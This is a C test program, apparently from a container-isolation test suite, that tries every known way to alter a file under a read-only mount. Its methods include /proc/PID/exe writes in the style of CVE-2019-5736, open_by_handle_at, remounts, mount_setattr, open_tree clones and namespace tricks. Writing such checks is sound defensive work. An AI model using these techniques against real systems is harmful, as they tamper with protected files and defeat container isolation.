/*
 * attack DIR FILE: every way we know to change FILE, which lies below the
 * read-only mount DIR. Meant for root with CAP_SYS_ADMIN in a container.
 *
 * One line a way on standard output: `way: what happened`, where `WROTE` means
 * that the bytes of FILE could be changed. Exit 1 if any way worked, else 0.
 * The tests run it against a plain read-only bind mount as well, where it must
 * succeed: an attack that cannot win proves nothing.
 */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/fs.h>
#include <linux/mount.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

/* <sys/mount.h> and <linux/mount.h> do not go together in every libc. */
int mount(const char *, const char *, const char *, unsigned long, const void *);
int umount2(const char *, int);
#ifndef MS_RDONLY
#define MS_RDONLY 1
#define MS_REMOUNT 32
#define MS_BIND 4096
#define MS_MOVE 8192
#define MS_REC 16384
#define MS_PRIVATE (1 << 18)
#endif
#define DETACH 2 /* MNT_DETACH */

static const char *dir, *file, *leaf; /* /native, /native/bin/x, bin/x */
static const char *stage = "";
static int wins;

static void report(const char *way, int result)
{
	printf("%s%s: %s\n", stage, way, result == 0 ? "WROTE" : strerror(result));
	if (result == 0)
		wins++;
}

/* Changes the first byte through an open descriptor. 0 or an errno. */
static int write_fd(int fd)
{
	int result = pwrite(fd, "X", 1, 0) == 1 ? 0 : errno;
	close(fd);
	return result;
}

static int write_at(int at, const char *path)
{
	int fd = openat(at, path, O_WRONLY | O_CLOEXEC | O_NONBLOCK);
	return fd < 0 ? errno : write_fd(fd);
}

static int call(long result)
{
	return result < 0 ? errno : 0;
}

static int clear_readonly(int fd, const char *path, unsigned flags)
{
	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY | MOUNT_ATTR_NOSUID | MOUNT_ATTR_NODEV };
	int result = call(syscall(SYS_mount_setattr, fd, path, flags, &attr, sizeof(attr)));
	if (result == 0)
		return 0;
	attr.attr_clr = MOUNT_ATTR_RDONLY;
	return call(syscall(SYS_mount_setattr, fd, path, flags, &attr, sizeof(attr)));
}

static void plain_calls(void)
{
	char other[PATH_MAX];
	struct timespec times[2] = { { 1, 0 }, { 1, 0 } };

	report("open for writing", write_at(AT_FDCWD, file));
	report("chmod", call(chmod(file, 0777)));
	report("chown", call(chown(file, 1, 1)));
	report("truncate", call(truncate(file, 0)));
	report("utimensat", call(utimensat(AT_FDCWD, file, times, 0)));
	report("setxattr", call(setxattr(file, "trusted.x", "y", 1, 0)));
	report("unlink", call(unlink(file)));
	snprintf(other, sizeof(other), "%s/planted", dir);
	report("create", call(open(other, O_WRONLY | O_CREAT | O_CLOEXEC, 0755)));
	report("symlink", call(symlink("/etc", other)));
	report("mkdir", call(mkdir(other, 0755)));
	report("mknod", call(mknod(other, S_IFCHR | 0666, 0x103)));
	report("link inside", call(link(file, other)));
	report("link outside", call(link(file, "/tmp/planted")));
	report("rename", call(rename(file, other)));
	report("O_TMPFILE", call(open(dir, O_TMPFILE | O_RDWR | O_CLOEXEC, 0600)));
	report("O_TRUNC read-only", call(open(file, O_RDONLY | O_TRUNC | O_CLOEXEC)));
	int fd = open(file, O_RDONLY | O_CLOEXEC);
	int flags = 0;
	if (fd >= 0 && ioctl(fd, FS_IOC_GETFLAGS, &flags) == 0) {
		flags |= FS_NOATIME_FL;
		report("ioctl flags", call(ioctl(fd, FS_IOC_SETFLAGS, &flags)));
	}
	if (fd >= 0) {
		report("fchmod", call(fchmod(fd, 0777)));
		close(fd);
	}
}

static void through_memory(void)
{
	int fd = open(file, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return report("mmap", errno);
	void *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	report("mmap shared, writable", p == MAP_FAILED ? errno : (memset(p, 'X', 1), 0));
	p = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
	if (p != MAP_FAILED) {
		report("mprotect of a shared mapping", call(mprotect(p, 4096, PROT_READ | PROT_WRITE)));
		int mem = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
		if (mem >= 0) {
			char before, after;
			ssize_t ok = pread(fd, &before, 1, 0);
			char flip = (char)~before;
			ssize_t wrote = pwrite(mem, &flip, 1, (off_t)(uintptr_t)p);
			int why = errno;
			ok += pread(fd, &after, 1, 0);
			report("/proc/self/mem", ok == 2 && before != after ? 0 : wrote < 0 ? why : EROFS);
			close(mem);
		}
		munmap(p, 4096);
	}
	close(fd);
}

/* CVE-2019-5736 and its relatives: the running program's own file. */
static void through_exe(void)
{
	pid_t child = fork();
	if (child == 0) {
		execl(file, "sleep", "30", (char *)NULL);
		_exit(127);
	}
	usleep(100000);
	char exe[64], again[64];
	snprintf(exe, sizeof(exe), "/proc/%d/exe", (int)child);
	report("/proc/PID/exe while it runs", write_at(AT_FDCWD, exe));
	int path = open(exe, O_PATH | O_CLOEXEC);
	report("truncate /proc/PID/exe", call(truncate(exe, 0)));
	report("chmod /proc/PID/exe", call(chmod(exe, 0777)));
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	if (path < 0)
		return report("/proc/PID/exe by O_PATH", errno);
	snprintf(again, sizeof(again), "/proc/self/fd/%d", path);
	report("/proc/PID/exe by O_PATH, after its end", write_at(AT_FDCWD, again));
	report("link of the O_PATH descriptor",
	       call(linkat(AT_FDCWD, again, AT_FDCWD, "/tmp/planted", AT_SYMLINK_FOLLOW)));
	close(path);
}

static void through_handle(void)
{
	union {
		struct file_handle handle;
		char space[sizeof(struct file_handle) + 128];
	} h;
	int mount_id;
	memset(&h, 0, sizeof(h));
	h.handle.handle_bytes = 128;
	if (name_to_handle_at(AT_FDCWD, file, &h.handle, &mount_id, 0) != 0)
		return report("open_by_handle_at", errno);
	int at = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	int fd = open_by_handle_at(at, &h.handle, O_WRONLY | O_CLOEXEC);
	report("open_by_handle_at", fd < 0 ? errno : write_fd(fd));
	close(at);
}

static void in_place(void)
{
	int r = call(mount(NULL, dir, NULL, MS_REMOUNT, NULL));
	report("remount", r ? r : write_at(AT_FDCWD, file));
	r = call(mount(NULL, dir, NULL, MS_REMOUNT | MS_BIND, NULL));
	report("bind remount", r ? r : write_at(AT_FDCWD, file));
	r = clear_readonly(AT_FDCWD, dir, 0);
	report("mount_setattr", r ? r : write_at(AT_FDCWD, file));
	r = clear_readonly(AT_FDCWD, dir, AT_RECURSIVE);
	report("mount_setattr, recursive", r ? r : write_at(AT_FDCWD, file));

	int fs = (int)syscall(SYS_fspick, AT_FDCWD, dir, FSPICK_CLOEXEC);
	if (fs < 0) {
		report("fspick", errno);
	} else {
		r = call(syscall(SYS_fsconfig, fs, FSCONFIG_SET_FLAG, "rw", NULL, 0));
		if (r == 0)
			r = call(syscall(SYS_fsconfig, fs, FSCONFIG_CMD_RECONFIGURE, NULL, NULL, 0));
		report("fspick and reconfigure", r ? r : write_at(AT_FDCWD, file));
		close(fs);
	}
}

static void copy_of_mount(void)
{
	char path[PATH_MAX];
	const char *copy = "/tmp/copy";
	mkdir(copy, 0755);
	snprintf(path, sizeof(path), "%s/%s", copy, leaf);

	int r = call(mount(dir, copy, NULL, MS_BIND, NULL));
	if (r) {
		report("bind copy", r);
	} else {
		r = call(mount(NULL, copy, NULL, MS_REMOUNT | MS_BIND, NULL));
		report("bind copy, bind remount", r ? r : write_at(AT_FDCWD, path));
		r = call(mount(NULL, copy, NULL, MS_REMOUNT, NULL));
		report("bind copy, remount", r ? r : write_at(AT_FDCWD, path));
		r = clear_readonly(AT_FDCWD, copy, 0);
		report("bind copy, mount_setattr", r ? r : write_at(AT_FDCWD, path));
		umount2(copy, DETACH);
	}
	r = call(mount(dir, copy, NULL, MS_BIND | MS_REC, NULL));
	if (r == 0) {
		r = call(mount(NULL, copy, NULL, MS_REMOUNT | MS_BIND, NULL));
		report("recursive bind copy, bind remount", r ? r : write_at(AT_FDCWD, path));
		umount2(copy, DETACH);
	}

	int tree = (int)syscall(SYS_open_tree, AT_FDCWD, dir, OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
	if (tree < 0)
		return report("open_tree", errno);
	r = clear_readonly(tree, "", AT_EMPTY_PATH);
	report("open_tree clone, mount_setattr", r ? r : write_at(tree, leaf));
	report("open_tree clone, write", write_at(tree, leaf));
	r = call(syscall(SYS_move_mount, tree, "", AT_FDCWD, copy, MOVE_MOUNT_F_EMPTY_PATH));
	if (r) {
		report("move_mount of the clone", r);
	} else {
		r = clear_readonly(AT_FDCWD, copy, 0);
		report("clone attached, mount_setattr", r ? r : write_at(AT_FDCWD, path));
		r = call(mount(NULL, copy, NULL, MS_REMOUNT | MS_BIND, NULL));
		report("clone attached, bind remount", r ? r : write_at(AT_FDCWD, path));
		umount2(copy, DETACH);
	}
	close(tree);

	r = call(mount(dir, copy, NULL, MS_MOVE, NULL));
	if (r)
		return report("move", r);
	r = call(mount(NULL, copy, NULL, MS_REMOUNT | MS_BIND, NULL));
	report("moved, bind remount", r ? r : write_at(AT_FDCWD, path));
	mount(copy, dir, NULL, MS_MOVE, NULL);
}

static void everything(void)
{
	plain_calls();
	through_memory();
	through_exe();
	through_handle();
	in_place();
	copy_of_mount();
	/* Once more: did a mount call that "succeeded" open the door for these? */
	plain_calls();
	through_exe();
}

/* The same from a namespace of its own making; the result comes back as a status. */
static void from_namespace(const char *name, int flags)
{
	fflush(stdout);
	pid_t child = fork();
	if (child == 0) {
		wins = 0;
		stage = name;
		if (unshare(flags) != 0) {
			report("unshare", errno);
			fflush(stdout);
			_exit(0);
		}
		mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
		everything();
		fflush(stdout);
		_exit(wins != 0);
	}
	int status = 0;
	waitpid(child, &status, 0);
	if (status != 0)
		wins++;
}

int main(int argc, char **argv)
{
	static char full[PATH_MAX];
	if (argc != 3) {
		fputs("usage: attack DIR FILE\n", stderr);
		return 2;
	}
	dir = argv[1];
	leaf = argv[2];
	snprintf(full, sizeof(full), "%s/%s", dir, leaf);
	file = full;
	if (access(file, F_OK) != 0) {
		fprintf(stderr, "attack: %s: %s\n", file, strerror(errno));
		return 2;
	}
	mkdir("/tmp", 0777);
	everything();
	from_namespace("new mount namespace: ", CLONE_NEWNS);
	from_namespace("new user and mount namespace: ", CLONE_NEWUSER | CLONE_NEWNS);
	return wins != 0;
}
